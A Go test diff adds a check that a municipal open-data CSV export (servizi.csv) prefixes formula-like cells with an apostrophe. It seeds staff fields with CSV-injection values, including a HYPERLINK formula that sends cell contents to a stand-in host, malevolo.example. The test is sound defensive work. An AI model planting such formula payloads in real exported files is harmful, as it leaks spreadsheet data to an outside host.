@@ -609,6 +609,45 @@ func TestOpenData(t *testing.T) {
 	require.Contains(t, body, `href="/opendata/carta.jsonld"`)
 }
 
+// Text written by staff reaches anyone who opens servizi.csv in a spreadsheet: cells that a
+// spreadsheet would run as formulas are written behind an apostrophe, as in the staff exports.
+func TestOpenDataCSVHasNoFormulas(t *testing.T) {
+	t.Parallel()
+	env := testenv.Get(t)
+	app := newApp(t, env, withClock)
+	tn := env.NewTenant(t, tenant.KindComune)
+	c := demoCarta()
+	c.Services[0].Title = `=HYPERLINK("https://malevolo.example/?d="&A1;"Clicca")`
+	c.Services[0].ShortDescription = "+39 06 1234567"
+	c.Services[0].ResponsibleUnit = "-1+2"
+	c.Services[1].Title = "@SUM(A1:A9)"
+	c.Offices[0].Name = "\t=1+1"
+	c.Services[2].ShortDescription = "\r=2"
+	publish(t, env, tn, c, publishedAt, "Prima pubblicazione")
+
+	res, body := get(t, app, host(tn), "/opendata/servizi.csv")
+	require.Equal(t, 200, res.StatusCode)
+	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	require.NoError(t, err)
+	cells := map[string]bool{}
+	for _, r := range recs[1:] {
+		for _, v := range r {
+			cells[v] = true
+			if v != "" {
+				require.NotContains(t, "=+-@\t\r", v[:1], "cell %q starts a formula", v)
+			}
+		}
+	}
+	for _, want := range []string{`'=HYPERLINK("https://malevolo.example/?d="&A1;"Clicca")`, "'+39 06 1234567", "'-1+2",
+		"'@SUM(A1:A9)", "'\t=1+1",
+		"'=2", // encoding/csv drops a lone CR: without the apostrophe the cell would read "=2"
+	} {
+		require.True(t, cells[want], "missing escaped cell %q", want)
+	}
+	_, body = get(t, app, host(tn), "/opendata")
+	require.Contains(t, body, "precedute da un apostrofo")
+}
+
 func TestDocuments(t *testing.T) {
 	t.Parallel()
 	env := testenv.Get(t)
